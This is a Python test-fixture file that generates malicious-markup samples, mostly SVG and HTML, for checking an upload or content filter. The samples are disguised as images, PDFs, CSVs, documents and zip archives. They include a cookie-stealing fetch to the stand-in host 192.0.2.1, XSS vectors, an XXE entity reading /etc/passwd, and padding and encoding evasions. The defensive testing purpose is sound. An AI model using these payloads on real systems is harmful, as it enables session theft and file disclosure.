"""Pages and drawings that a browser would run."""

from __future__ import annotations

import gzip
from collections.abc import Callable

from tests.support.corpus.packing import zipped
from tests.support.corpus.sample import NOT_TAKEN, always, samples

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{}>{}</svg>'
PAGE = b"<!DOCTYPE html><html><body><script>fetch('http://192.0.2.1/'+document.cookie)</script></body></html>"
MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    + PAGE
    + b"\r\n--x--\r\n"
)


def _svg(inside: str = "", attributes: str = "", before: str = "") -> Callable[[], bytes]:
    return (before + SVG.format(attributes, inside)).encode


MARKUP = samples(
    NOT_TAKEN,
    [
        ("svg-script", "drawing.svg", _svg("<script>alert(1)</script>")),
        ("svg-onload", "drawing.svg", _svg(attributes=' onload="alert(1)"')),
        ("svg-foreign-object", "drawing.svg", _svg('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>')),
        ("svg-link", "drawing.svg", _svg('<a xlink:href="javascript:alert(1)"><text>pay</text></a>')),
        (
            "svg-entity",
            "drawing.svg",
            _svg("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        ),
        ("svg-plain", "drawing.svg", _svg('<circle r="5"/>')),
        ("svg-as-png", "photo.png", _svg("<script>alert(1)</script>")),
        ("svg-as-txt", "letter.txt", _svg("<script>alert(1)</script>", before='<?xml version="1.0"?>\n<!-- a drawing -->\n')),
        ("svg-deflated", "drawing.svgz", lambda: gzip.compress(_svg("<script>alert(1)</script>")(), mtime=0)),
        ("svg-zipped", "drawings.zip", lambda: zipped({"drawing.svg": _svg("<script>alert(1)</script>")()})),
        ("html", "page.html", always(PAGE)),
        ("html-as-txt", "letter.txt", always(PAGE)),
        ("html-as-jpg", "photo.jpg", always(PAGE)),
        ("html-as-csv", "accounts.csv", always(b"name,balance\r\n<img src=x onerror=alert(1)>,1\r\n")),
        ("html-as-pdf", "statement.pdf", always(PAGE)),
        ("html-as-doc", "letter.doc", always(PAGE)),
        ("html-utf-16", "letter.txt", lambda: PAGE.decode().encode("utf-16")),
        ("html-after-white-space", "letter.txt", always(b"\xef\xbb\xbf\r\n \t" + b"\n" * 400 + PAGE)),
        ("html-in-capitals", "letter.txt", always(b"Dear you<SCRIPT SRC=//192.0.2.1></SCRIPT>")),
        ("html-refresh", "letter.txt", always(b'<meta http-equiv="refresh" content="0;url=data:text/html,x">')),
        ("html-zipped", "letters.zip", lambda: zipped({"letter.html": PAGE})),
        (
            "xhtml",
            "page.xhtml",
            always(b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
        ),
        ("web-archive", "page.mht", always(MHT)),
        ("web-archive-as-doc", "letter.doc", always(MHT)),
        ("mail", "letter.eml", always(b"From: aoife@example.com\r\nSubject: Hello\r\nContent-Type: text/html\r\n\r\n" + PAGE)),
        (
            "xml-style-sheet",
            "letter.xml",
            always(b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?><a/>'),
        ),
    ],
)
